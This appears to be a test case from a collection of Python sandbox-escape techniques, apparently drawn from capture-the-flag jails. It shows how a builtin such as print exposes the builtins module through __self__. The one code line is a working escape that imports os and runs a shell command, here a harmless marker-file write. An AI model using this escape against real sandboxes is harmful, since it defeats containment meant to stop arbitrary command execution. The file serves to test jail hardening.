"""A builtin function has its module as __self__.

Known from: CTF jails that leave print alone (print.__self__)
Effect: made
Host: helper = print
Given: helper
Jail: no builtins
"""
helper.__self__.__import__("os").system(": > made")
